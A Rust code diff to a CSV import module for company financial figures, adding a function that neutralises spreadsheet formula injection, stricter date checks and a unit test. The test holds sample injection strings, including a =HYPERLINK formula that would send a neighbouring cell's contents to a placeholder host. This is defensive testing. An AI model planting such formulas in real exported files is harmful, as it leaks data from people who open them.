@@ -10,7 +10,7 @@
 
 use std::collections::HashMap;
 
-use chrono::{DateTime, Duration, NaiveDate, NaiveTime, Utc};
+use chrono::{DateTime, Duration, NaiveDate, Utc};
 use rust_decimal::Decimal;
 use serde::{Deserialize, Serialize};
 use uuid::Uuid;
@@ -30,6 +30,19 @@ pub const CSV_TEMPLATE: &str = "company,metric,value,effective_date,period,sourc
 Acme Robotics,REVENUE,1250000.00,2026-03-31,2026-03-31,import\n\
 Acme Robotics,CASH_BURN,310000,2026-03-31,,import\n\
 6f1d1f1e-0000-4000-8000-000000000001,EBITDA,-45000.50,2026-04-02,2026-03-31,manual\n";
+
+/// A cell for a CSV file people open in a spreadsheet: text starting with `=`, `+`, `-`, `@`, tab or
+/// carriage return would run as a formula (`=HYPERLINK(…)` leaking the neighbouring cells), so it
+/// gets a leading `'`, which spreadsheets show as text. A cell that is a number (`-45000.50`)
+/// stays as it is, so negative figures remain numeric.
+pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && cell.parse::<Decimal>().is_err() {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
 
 /// One problem in the file. `line` is 1-based as an editor shows it (the header is line 1).
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
@@ -216,7 +229,10 @@ fn parse_row(
         Some(s) => parse_day_or_moment(&s).and_then(|t| check_effective(t, ctx)),
     };
     let period = get("period").map(|s| {
-        NaiveDate::parse_from_str(&s, "%Y-%m-%d").map_err(|_| format!("{s:?} is not a date (YYYY-MM-DD, the last day of the period)"))
+        match NaiveDate::parse_from_str(&s, "%Y-%m-%d") {
+            Ok(d) => crate::dates::check_day(d),
+            Err(_) => Err(format!("{s:?} is not a date (YYYY-MM-DD, the last day of the period)")),
+        }
     });
     let source = match get("source") {
         None => Ok(ActualSource::Import),
@@ -279,13 +295,9 @@ pub fn parse_source(s: &str) -> Result<ActualSource, String> {
 }
 
 /// A date (`2026-03-31`, the start of that day UTC) or an RFC 3339 timestamp.
+/// Dates outside `crate::dates`' range are refused.
 pub fn parse_day_or_moment(s: &str) -> Result<DateTime<Utc>, String> {
-    if let Ok(t) = DateTime::parse_from_rfc3339(s) {
-        return Ok(t.with_timezone(&Utc));
-    }
-    NaiveDate::parse_from_str(s, "%Y-%m-%d")
-        .map(|d| d.and_time(NaiveTime::MIN).and_utc())
-        .map_err(|_| format!("{s:?} is not a date (YYYY-MM-DD) or an RFC 3339 timestamp"))
+    crate::dates::parse_moment(s, false)
 }
 
 fn check_effective(t: DateTime<Utc>, ctx: &CsvContext<'_>) -> Result<DateTime<Utc>, String> {
@@ -309,4 +321,23 @@ pub fn check_value(metric: Metric, v: Decimal) -> Result<Decimal, String> {
         return Err(format!("must not exceed {MAX_AMOUNT}"));
     }
     Ok(v)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn spreadsheet_formulas_are_neutralised_and_numbers_kept() {
+        assert_eq!(spreadsheet_safe("=HYPERLINK(\"https://x/?\"&B2,\"x\")"), "'=HYPERLINK(\"https://x/?\"&B2,\"x\")");
+        for risky in ["+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "=1"] {
+            assert_eq!(spreadsheet_safe(risky), format!("'{risky}"), "{risky:?}");
+        }
+        for kept in ["-45000.50", "-1", "+1", "Acme Robotics", "", "2026-03-31"] {
+            assert_eq!(spreadsheet_safe(kept), kept, "{kept:?}");
+        }
+        for cell in CSV_TEMPLATE.lines().flat_map(|l| l.split(',')) {
+            assert_eq!(spreadsheet_safe(cell), cell, "the template's cells are safe as they are");
+        }
+    }
 }
